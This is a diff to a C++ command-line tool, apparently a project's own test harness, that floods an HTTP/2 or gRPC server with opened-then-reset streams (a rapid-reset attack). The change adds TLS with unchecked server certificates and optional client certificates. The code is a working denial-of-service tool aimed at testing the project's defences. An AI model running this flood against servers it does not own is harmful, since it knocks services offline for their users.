@@ -6,26 +6,35 @@
 // server closes is reopened.
 //
 //   h2_flood --port=50051 [--connections=4] [--seconds=10]
-//   [--path=/pkg.Svc/Method]
-//            [--source=127.0.0.2]
+//            [--path=/pkg.Svc/Method] [--source=127.0.0.2]
+//            [--tls [--cert=client.pem --key=client.key]]
 //
+// --tls speaks TLS (OpenSSL, ALPN h2, the server's certificate not
+// checked: the flood is the attacker), presenting a client certificate
+// when given one (a mutual-TLS port admits only those).
 // --source binds the flood's connections to that local address (so that on
 // one machine the flood and a legitimate client come from different
 // addresses, as they would in the field). Prints one line: streams opened
 // and reset (sent in full), connections opened, seconds.
 // Used by tests/e2e/flood_test.cc; run longer by hand (docs/security.md).
 #include <arpa/inet.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
+#include <openssl/err.h>
+#include <openssl/ssl.h>
+#include <poll.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
 #include <atomic>
 #include <chrono>
+#include <csignal>
 #include <cstdint>
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
+#include <mutex>
 #include <string>
 #include <thread>
 #include <vector>
@@ -62,15 +71,54 @@ std::string Literal(const std::string& name, const std::string& value) {
 constexpr uint8_t kHeaders = 0x1, kRstStream = 0x3, kSettings = 0x4;
 constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;
 
-bool SendAll(int fd, const std::string& bytes) {
+// One flooding connection: a plain socket, or TLS over a non-blocking one
+// (the writer and the drain thread then take turns on the session).
+struct Link {
+  int fd = -1;
+  SSL* ssl = nullptr;
+  std::mutex mu;  // TLS: one thread in the session at a time
+};
+
+bool SendAll(Link& link, const std::string& bytes) {
   size_t done = 0;
   while (done < bytes.size()) {
-    ssize_t n =
-        ::send(fd, bytes.data() + done, bytes.size() - done, MSG_NOSIGNAL);
-    if (n <= 0) return false;
-    done += static_cast<size_t>(n);
+    if (link.ssl == nullptr) {
+      ssize_t n = ::send(link.fd, bytes.data() + done, bytes.size() - done,
+                         MSG_NOSIGNAL);
+      if (n <= 0) return false;
+      done += static_cast<size_t>(n);
+      continue;
+    }
+    int error = 0;
+    {
+      std::lock_guard<std::mutex> lock(link.mu);
+      size_t n = 0;
+      if (SSL_write_ex(link.ssl, bytes.data() + done, bytes.size() - done,
+                       &n) == 1) {
+        done += n;
+        continue;
+      }
+      error = SSL_get_error(link.ssl, 0);
+    }
+    if (error != SSL_ERROR_WANT_WRITE && error != SSL_ERROR_WANT_READ) {
+      return false;
+    }
+    pollfd p{link.fd, POLLOUT, 0};
+    ::poll(&p, 1, 20);
   }
   return true;
+}
+
+// TLS client handshake on a connected socket, which it leaves non-blocking.
+SSL* StartTls(SSL_CTX* ctx, int fd) {
+  SSL* ssl = SSL_new(ctx);
+  SSL_set_fd(ssl, fd);
+  if (SSL_connect(ssl) != 1) {
+    SSL_free(ssl);
+    return nullptr;
+  }
+  ::fcntl(fd, F_SETFL, ::fcntl(fd, F_GETFL) | O_NONBLOCK);
+  return ssl;
 }
 
 int Connect(int port, const std::string& source) {
@@ -98,14 +146,30 @@ int Connect(int port, const std::string& source) {
   return fd;
 }
 
+// Reads what the server sent: bytes (> 0), nothing yet (0), or the end
+// (-1).
+ssize_t ReadSome(Link& link, char* p, size_t n) {
+  if (link.ssl == nullptr) {
+    ssize_t r = ::recv(link.fd, p, n, 0);
+    return r > 0 ? r : -1;
+  }
+  pollfd wait{link.fd, POLLIN, 0};
+  ::poll(&wait, 1, 100);
+  std::lock_guard<std::mutex> lock(link.mu);
+  size_t got = 0;
+  if (SSL_read_ex(link.ssl, p, n, &got) == 1) return static_cast<ssize_t>(got);
+  const int error = SSL_get_error(link.ssl, 0);
+  return error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE ? 0 : -1;
+}
+
 // Reads and drops server frames, acknowledging SETTINGS, until the socket
 // closes.
-void Drain(int fd) {
+void Drain(Link* link) {
   std::string buffer;
   char chunk[65536];
   for (;;) {
-    ssize_t n = ::recv(fd, chunk, sizeof(chunk), 0);
-    if (n <= 0) return;
+    ssize_t n = ReadSome(*link, chunk, sizeof(chunk));
+    if (n < 0) return;
     buffer.append(chunk, static_cast<size_t>(n));
     while (buffer.size() >= 9) {
       uint32_t len = (static_cast<uint8_t>(buffer[0]) << 16) |
@@ -114,7 +178,7 @@ void Drain(int fd) {
       if (buffer.size() < 9 + len) break;
       if (static_cast<uint8_t>(buffer[3]) == kSettings &&
           (static_cast<uint8_t>(buffer[4]) & kAck) == 0) {
-        SendAll(fd, Frame(kSettings, kAck, 0, ""));
+        SendAll(*link, Frame(kSettings, kAck, 0, ""));
       }
       buffer.erase(0, 9 + len);
     }
@@ -143,6 +207,28 @@ int main(int argc, char** argv) {
   const std::string path =
       FlagValue(argc, argv, "path", "/techmatch.v1.OfferService/GetOffer");
   const std::string source = FlagValue(argc, argv, "source", "");
+  std::signal(SIGPIPE, SIG_IGN);  // TLS writes to closed connections
+  bool tls = false;
+  for (int i = 1; i < argc; ++i)
+    tls = tls || std::strcmp(argv[i], "--tls") == 0;
+  SSL_CTX* ctx = nullptr;
+  if (tls) {
+    ctx = SSL_CTX_new(TLS_client_method());
+    static const unsigned char kAlpn[] = {2, 'h', '2'};
+    SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof(kAlpn));
+    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE |
+                              SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
+    const std::string cert = FlagValue(argc, argv, "cert", "");
+    const std::string key = FlagValue(argc, argv, "key", "");
+    if (!cert.empty() &&
+        (SSL_CTX_use_certificate_chain_file(ctx, cert.c_str()) != 1 ||
+         SSL_CTX_use_PrivateKey_file(ctx, key.c_str(), SSL_FILETYPE_PEM) !=
+             1)) {
+      std::fprintf(stderr, "h2_flood: cannot read %s / %s\n", cert.c_str(),
+                   key.c_str());
+      return 2;
+    }
+  }
   if (port <= 0) {
     std::fprintf(stderr, "h2_flood: --port is required\n");
     return 2;
@@ -162,15 +248,23 @@ int main(int argc, char** argv) {
   for (int c = 0; c < connections; ++c) {
     threads.emplace_back([&] {
       while (std::chrono::steady_clock::now() < end) {
-        int fd = Connect(port, source);
-        if (fd < 0) {
+        Link link;
+        link.fd = Connect(port, source);
+        if (link.fd >= 0 && ctx != nullptr) {
+          link.ssl = StartTls(ctx, link.fd);
+          if (link.ssl == nullptr) {
+            ::close(link.fd);
+            link.fd = -1;
+          }
+        }
+        if (link.fd < 0) {
           std::this_thread::sleep_for(std::chrono::milliseconds(50));
           continue;
         }
         ++opened;
-        std::thread drain(Drain, fd);
-        bool ok = SendAll(fd, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") &&
-                  SendAll(fd, Frame(kSettings, 0, 0, ""));
+        std::thread drain(Drain, &link);
+        bool ok = SendAll(link, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") &&
+                  SendAll(link, Frame(kSettings, 0, 0, ""));
         std::string batch;
         int64_t in_batch = 0;
         for (uint32_t id = 1;
@@ -180,19 +274,21 @@ int main(int argc, char** argv) {
           batch += Frame(kRstStream, 0, id, cancel);
           ++in_batch;
           if (batch.size() > 16384) {
-            ok = SendAll(fd, batch);
+            ok = SendAll(link, batch);
             if (ok) streams += in_batch;
             batch.clear();
             in_batch = 0;
           }
         }
-        ::shutdown(fd, SHUT_RDWR);
+        ::shutdown(link.fd, SHUT_RDWR);
         drain.join();
-        ::close(fd);
+        SSL_free(link.ssl);
+        ::close(link.fd);
       }
     });
   }
   for (auto& t : threads) t.join();
+  SSL_CTX_free(ctx);
   std::printf(
       "h2_flood: %lld streams opened and reset on %lld connections in %.1f s\n",
       static_cast<long long>(streams.load()),
